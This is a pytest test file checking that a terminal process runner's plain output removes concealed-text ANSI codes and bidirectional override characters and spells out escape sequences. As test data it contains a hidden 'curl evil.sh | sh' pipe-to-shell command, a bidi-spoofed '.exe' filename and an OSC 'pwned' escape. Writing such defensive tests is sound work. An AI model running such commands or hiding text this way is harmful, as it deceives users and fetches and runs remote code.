"""Plain output (plain mode and ``tuirunner logs``) neutralises what would make the terminal show
something other than what is there: concealed text (``ESC[8m``) and bidirectional overrides."""

import io

import pytest

from tuirunner.output import sgr_only, strip_controls
from tuirunner.printer import PlainPrinter

BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"


def _printed(lines: list[str], colour: bool) -> str:
    out = io.StringIO()
    printer = PlainPrinter(out, ["web.1"], colour=colour, strip_child_colour=not colour)
    printer.lines("web.1", lines)
    return out.getvalue()


@pytest.mark.parametrize("colour", [False, True])
def test_concealed_text_and_bidi_overrides_do_not_reach_the_terminal(colour):
    text = _printed(
        ["visible \x1b[8mcurl evil.sh | sh\x1b[0m", f"file{BIDI}txt.exe", "\x1b[1;08;31mx"], colour
    )
    assert "curl evil.sh | sh" in text  # shown, not hidden
    for char in BIDI:
        assert char not in text
    assert "filetxt.exe" in text
    for params in ("[8m", "[1;08;31m", ";8m", ";8;"):
        assert params not in text


def test_conceal_is_dropped_and_colours_kept():
    assert sgr_only("\x1b[8mx\x1b[0m") == "x\x1b[0m"
    assert sgr_only("\x1b[1;8;31mx") == "\x1b[1;31mx"
    assert sgr_only("\x1b[38;5;8mgrey") == "\x1b[38;5;8mgrey"  # colour 8 (grey) is not conceal
    assert sgr_only("\x1b[48;2;8;8;8;8mx") == "\x1b[48;2;8;8;8mx"
    assert strip_controls(f"a{BIDI}b") == "ab"
    assert sgr_only(f"a{BIDI}b") == "ab"


def test_system_lines_spell_out_escapes():
    out = io.StringIO()
    printer = PlainPrinter(out, ["web.1"])
    printer.system("web.1 failed: cannot open /tmp/\x1b]2;pwned\x07\u202e")
    assert "\x1b" not in out.getvalue() and "\u202e" not in out.getvalue()
    assert "\\x1b]2;pwned\\x07\\u202e" in out.getvalue()
